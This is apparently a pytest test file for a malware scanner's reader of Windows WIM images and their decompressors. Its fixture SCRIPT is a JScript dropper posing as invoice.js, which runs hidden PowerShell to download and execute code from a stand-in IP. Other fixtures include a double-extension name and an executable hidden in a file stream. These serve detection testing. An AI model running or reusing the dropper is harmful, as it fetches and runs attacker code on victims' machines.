"""Images of Windows (WIM) and the packings in them: names and contents are read, what is damaged ends."""

from __future__ import annotations

import base64
import contextlib
import struct
import zlib

import pytest
from hypothesis import given
from hypothesis import strategies as st

from safecare.examine.api import Verdicts
from safecare.examine.engine import Engine
from safecare.formats.discs import DiscError
from safecare.formats.discs.wim import Wim
from safecare.formats.packed import LZX, XPRESS, PackedError, chunks, lznt1, lzx, unit_of, xpress

SCRIPT = b'new ActiveXObject("WScript.Shell").Run("powershell -nop -w hidden -c IEX(irm http://203.0.113.5/a)")'
WORDS = b"What was said on the second of March.\r\n" * 20
CALLS = b"".join(b"\x90" * (n % 7) + b"\xe8" + (1000 * n).to_bytes(4, "little") for n in range(60)) + bytes(70000)
MADE = {
    XPRESS: (
        "c-rk&eNa?Y6h905_ALq|K^Q0j4VoFsH>|_TN3g&e%Wez1D}UhZ2Eru7JdtUE3|2%Q3K>MDV^d-nj@68?HjOiYgM&i^A((uPln9I#2FYZDjt$"
        "UxZy&gz($J9p(|w%x&OP^>dp`De&qWrmk;(v|3khs^PzV+P27uyjqO0NT*X;w5^1j1PbRrL!2cQ+$VNoYEG29%cEll!Ut9kP$J}zL8t>~LDf"
        "Pv&lILiw`C`2MTGVunWG2tAbKyO9@AX(ybUnGj8;9(+xoFzW`C(Q^4H5-?Hjv?p8t5T_m|Dq1*&%VH`mD$?%C*|8*f9pKK&;N|raM(*Al-~E"
        "EJLtyq&ARTa&aZZFZ@k`-)Uf%F+>JJ$xaQ?qud1$Wyhb<Q`lz#Sh`KyBa;1Ooy{Y6)Q7;u}9eA(g5Y`nl=Q2v7_KHKQla(%o@#<{{2>!^hae"
        "e)s=Hh3b4-Y8K7uEilH90;pWW4i(DtW}xBVhcEVSm*ZU+S9MS30UoXjy0P5t_EE)U2l8>(PjE%1TRZ61N;O$jdHu#T=7C(~L(xuwZ+dgTt@e"
        "Qwu-@F!NWz|7E~3NbDC%`FLnlph!qfqu8@Xu@C;G0VQD0ojM9sg47gZXNr0`q7eMUx^_w8rH?A#yxgql8}*g<c3n=Na{6V!t=+<V-B^A?`iX"
        "CL$em+i^1{|oMP*GB&bRKi+$hRjXLo5xHLlp7)c5oL{z2CoN{MCMU;-1NnA_IU^jXk>6mzdIg@i}|hy)2=u^ed-OOq>>8%z#Hd)rO4uQsAYZ"
        "#%j3bn9qln>2I~!e)jL=h=uP?Bbw*(4t97j{<D+3<K=NfHSU}Q+hq5k))nX6EF%S14BKxZi1v~AN>RH;O5MYz-Z$l#ros4(1rytr6m_)juLR"
        "!iPr4y&{7n4!4QlghQb+8|F$@5V~)Bz+7D)~@Eoq;6P8B5E1y?Iga6d&vS^p;;Nxoq&Z67THMZP*J?QPqRQGgehj*$c&hR9zu!Da=7n)PZ%L"
        "vkzH{YGm)t?|H3aWS>guBo#d~GN>NjvqB0+G7m;>i!s4FsO~H9N4@r(5xpou{Gcw*$O=XFZ22f>t}a-B0QIE;vJ8cQMn?^PqaP_*C!J-L#Fe"
        "NU8HK%CB(euWA?ps4;<9u#&4q4%eYf|DJri@B0rv9kq(H>bYZ7_r<nZRv-Jb&xCS*7nkQYd!Cua(e})?a`lLR%e%&tSF>rcKy#ZHZBpQ$;+r"
        "hWdFDO>_o(HX>Rre4rf+764jy^GyLMx+3uo~=hh%F@a|_+aFH3qi8?BACb?dK<*zr2Hj=ecEEd~upK?WfpX20PO4HE3MQix+t9BhZJ@FMsiF"
        "&c5WE<<SuWa7-rY%WG^DJUTV<k%DAAOU5*tj@!7F+`y(7VXTXeysMRR>b(0BZcG2tB{DC1maO1gmDEz0Qj?(kJb@G49b)kMJ$`sYx7pUS<A&"
        "V#2ASZ`EZm-(L)^joy|E0`DlDA*c}qs9dnR;aJNW|PlB8u=VPI!82!ny`txo5@CiiAEo^oXtnETQMz&Z~u_%v6i40em>N7Qsc)}To*x$t)?H"
        "`xHQlj)S!{+1h;ENu8(eGkt@S4N>3iul%e71Q"
    ),
    LZX: (
        "c-qBOdrVVT82?Hu6hkAepnwdE;4BiP(9$xwFeuML3$CCzj9tZK0umoMP1O{bDL5FBhfZ-BDU&f?&OqJN=|oW1L93HRD?@ZlYCtv+bto1`?@n"
        "*)0!}ddXFDhNobUU6@9&;-#L1~bF#vR-4`?LV2NZyOfVT&94mYnS>xG$&rojI1T}fb`03ARK8yUqySa~qnSa8;yY5ada*eJ<dbD{wN-ei!;z"
        "*D-rkX;gR&9%_+6z>vSbXTKn5lFVt>Bk)7R~883$_}v#oCJ==${LBMf+cyzGMVdF+CqLrq5EeCJbKpq#q^cJIg5Xejmpua7~J7AbX>rz(mHQ"
        "fH$5Bq#vMN&!c|?}8<q56^2<D*PbQZ8e%DLx4&t@itNt8PXZTLIENb0rRA0|E?fl70WqfjQYjp1|THSDx>f08hA$xOPLa5)Kg(n6kRxdCvy?"
        "W>T?-ixF6BD}TmAoUq?g{B1pFGUV!8SeCYV2yHeu7Pc-aTmwPR*G9agQqYtM#hvwM~)ItWNRx>6VRQ=d-HhoY)0yhg!L=p)M#7lT^US>)M7U"
        "F-Rob4#(kF3n!plbA8?l_beP8!l(!F(ovj`&pM!u>j~Ab_eX_oR2=7<EH<u8Kxc*w;a*(WG>^7WTFq#xlsQ%x+J{r(4(#ie-jHVE>z?E0zk^"
        "1;5>%Y@A0H{KJSeFu+PI?RsYiXe^u+C4<Cyn_G-Fzvrj6IBUMzAu=ci9*Rd$EcXx@TqSuibTuRP}oW}setSg~ucy>WAW`-#y9$-@ov;0&7y7"
        "tJ2IHXP`PKg&O)%hGpVVz@EM&qLabW{E9;j4tROA8eENy=Y;?M}6a!d78$Ri7ul2)9&?)9;fiT9_BO%2m7?LE6bSZYM~o6C!7tt-fN(Yq&hd"
        "+|D4X+u>2^Sl~|PEeJA~x$c5qcR*k-wF+b*=rE|FPW(#!98Z)4j>R+qgc=y)R>}*}LUtfW8)EYF(<$a}F*W3sLuEp`X$#nNayZau>wDn$^`^"
        "yr12Ue{1EUND{?i4b6%HwUw8vWMK6+>0)IuzQW1;Z*QAD81)<`0vXZJg+KZp-Mpp{Puc?MvIsz56ehIodhoF;?C7_bu7!^mUHs@Ndo&1<q$Q"
        "J@xlm_sbt$S<Ifqa{?;DcVv_f#*FY!9^I8GZs;}?ci3L2O*n-ys4*?FH(Z+UKeOa%n?be^a_hTbc}-4z*jZ6EWS?lS|3kf|Tcjn|d^&cPL?}"
        "?YtR=?JCrz=a)NRq0tub&l3iTJaKG=`hrjC+|EsB(4tM4+>)EK-SYm!oHvQ&Fa13AG(M@nxrFAqtvS~yv=av)E&*l^e<`sNC?gSxrp&0h?3("
        "$&!6Ox%P)DhNRgVSo{P1jIr#FcF;yQHWX#p|Au!J4*<SL?jm@Gz_*N&VLGzA#EW@AQF;bHNsO67D(v)6UQJ1VIpKV73C1xuaaPBO+sG;k_g~"
        "kL`6d~!ucpK9s~iGuza-+25|_Jpe#g0O$pPaY{GIj4Gd)>L39K{geXEHvA?J}4$-k_T}60EAw0^_7l6D)q5Pr|#j(bCSrbF?l2G@j+j7w4K`"
        "`nAAFaWJ?aO**Y__aK2v0_c7)i|CH}^F1f2bf5?d%yV_%~VlPdS@2p9gcMf!2sKod*BE&-+~X3zPvV82"
    ),
}
"""Made by wimlib-imagex 1.13 (``capture --compress=...``) of three files, then packed to stand here."""
METHODS = sorted(MADE)


def image(method: str) -> bytes:
    return zlib.decompress(base64.b85decode(MADE[method]))


def stored(name: str, raw: bytes, *, flags: int = 0, resource: int = 0, stream: str = "") -> bytes:
    """Return an image with one file that is not packed, with `flags` in its head and of its blob."""
    digest = b"\x01" * 20
    label = name.encode("utf-16-le")
    extra = b""
    if stream:
        what = stream.encode("utf-16-le")
        extra = (struct.pack("<QQ20sH", 38 + len(what), 0, digest, len(what)) + what).ljust(64, b"\0")
    head = struct.pack("<QIiQ", 102 + len(label), 0x20, -1, 0).ljust(64, b"\0")
    file = (head + (bytes(20) if stream else digest)).ljust(96, b"\0")
    file += struct.pack("<HHH", bool(stream), 0, len(label)) + label
    file += bytes(-len(file) % 8) + extra
    root = struct.pack("<QIiQ", 102, 0x10, -1, 120).ljust(104, b"\0") + bytes(8)
    tree = struct.pack("<II", 8, 0) + root + file + bytes(8)
    at, blobs = 208, b""
    for kind, data, mark in ((2, tree, b"\x02" * 20), (resource, raw, digest)):
        blobs += struct.pack("<QQQHI", len(data) | kind << 56, at, len(data), 1, 1) + mark
        at += len(data)
    start = struct.pack("<8sIIII16sHHI", b"MSWIM\0\0\0", 208, 0x10D00, flags, 32768, bytes(16), 1, 1, 1)
    return (start + struct.pack("<QQQ", len(blobs), at, len(blobs))).ljust(208, b"\0") + tree + raw + blobs


@pytest.mark.parametrize("method", METHODS)
def test_an_image_of_another_program_is_read(method: str) -> None:
    wim = Wim(image(method))
    [tree] = wim.trees()
    found = {}
    for one in wim.files(wim.read(tree, 1 << 20)):
        assert one.resource is not None
        assert wim.readable(one.resource)
        found[one.name] = wim.read(one.resource, 1 << 20)
        part = wim.read(one.resource, one.resource.size - 1)  # whole chunks only, where there are any
        assert found[one.name].startswith(part)
    assert found == {"docs/invoice.js": SCRIPT * 4, "notes.txt": WORDS, "calls.bin": CALLS}
    verdict = Engine().judge(image(method), "a.wim")
    assert verdict.verdict in (Verdicts.SUSPICIOUS, Verdicts.MALICIOUS)
    assert {one.where.part for one in verdict.findings} == {"docs_invoice.js"}


def test_what_is_stored_plainly_is_judged() -> None:
    assert Engine().judge(stored("notes.txt", WORDS), "a.wim").verdict is Verdicts.CLEAN
    assert Engine().judge(stored("invoice.js", SCRIPT), "a.wim").score >= 0.5
    found = Engine().judge(stored("notes.txt", b"MZ" + bytes(200), stream="a.exe"), "a.wim")
    assert "name.stream" in {one.rule for one in found.findings}


@pytest.mark.parametrize(
    ("flags", "resource"), [(0x80002, 4), (0x20002, 0x10), (0, 0x08)], ids=["lzms", "solid", "span"]
)
def test_what_is_not_read_is_told_and_its_name_is_judged(flags: int, resource: int) -> None:
    found = Engine().judge(stored("notes.txt", WORDS, flags=flags, resource=resource), "a.esd")
    assert found.verdict is Verdicts.UNREADABLE
    assert [one.rule for one in found.findings] == ["disc.closed"]
    found = Engine().judge(stored("scan.pdf.exe", WORDS, flags=flags, resource=resource), "a.esd")
    assert {one.rule for one in found.findings} == {"disc.closed", "name.double"}


def test_more_images_than_any_has_are_a_limit() -> None:
    raw = stored("notes.txt", WORDS)
    tree = raw[-100:-50]
    many = raw[:48] + struct.pack("<QQQ", 5050, len(raw) - 100, 5050) + raw[72:-100] + tree * 100 + raw[-50:]
    assert [one.rule for one in Engine().judge(many, "a.wim").findings] == ["limit.members"]


def test_lznt1() -> None:
    """[MS-XCA] 3.3 describes the form; the second chunk repeats with distances that need more bits."""
    plain = struct.pack("<H", 0x3000 | 3) + b"abcd"
    packed = b"\x08abc" + struct.pack("<H", 2 << 12 | 9 - 3)  # three letters, then nine from three before
    chunk = struct.pack("<H", 0xB000 | len(packed) - 1) + packed
    assert lznt1(plain + chunk + bytes(2), 100) == b"abcd" + b"abc" * 4
    assert lznt1(plain + chunk, 6) == b"abcdab"
    assert unit_of(chunk, 32, 20) == (b"abc" * 4).ljust(32, b"\0")
    assert unit_of(b"", 8, 0) == bytes(8)
    assert unit_of(b"x" * 8, 8, 8) == b"x" * 8
    with pytest.raises(PackedError, match="before its begin"):
        lznt1(struct.pack("<H", 0xB002) + b"\x01\0\0", 100)


def test_chunks_that_no_writer_makes_are_refused() -> None:
    for size, chunk, method in ((10, 1, XPRESS), (10, 1 << 22, LZX), (10, 32768, "lzms")):
        with pytest.raises(PackedError, match="size"):
            chunks(b"x" * 10, size, chunk, method, 10)
    with pytest.raises(PackedError, match="cut off"):
        chunks(b"x" * 10, 10 * 4096, 4096, XPRESS, 10)
    assert chunks(b"x" * 10, 10, 4096, XPRESS, 4) == b""
    assert chunks(struct.pack("<I", 4096) + b"x" * 4106, 4106, 4096, XPRESS, 4100) == b"x" * 4096


@given(st.binary(max_size=600), st.integers(1, 40000))
def test_packed_data_by_chance_ends(raw: bytes, size: int) -> None:
    with contextlib.suppress(PackedError):
        assert len(xpress(raw, size)) == size
    with contextlib.suppress(PackedError):
        assert len(lzx(raw, size)) == size
    with contextlib.suppress(PackedError):
        assert len(lznt1(raw, size)) <= size


@given(
    st.sampled_from(METHODS),
    st.lists(st.tuples(st.integers(0, 1 << 20), st.binary(min_size=1, max_size=8)), max_size=6),
)
def test_damaged_images_end(method: str, changes: list[tuple[int, bytes]]) -> None:
    raw = bytearray(image(method))
    for at, data in changes:
        place = at % (len(raw) - len(data))
        raw[place : place + len(data)] = data
    try:
        wim = Wim(bytes(raw))
        for tree in wim.trees():
            for one in wim.files(wim.read(tree, 10_000)):
                if one.resource and wim.readable(one.resource):
                    wim.read(one.resource, 10_000)
    except DiscError:
        pass
    assert Engine().judge(bytes(raw), "a.wim").verdict in Verdicts
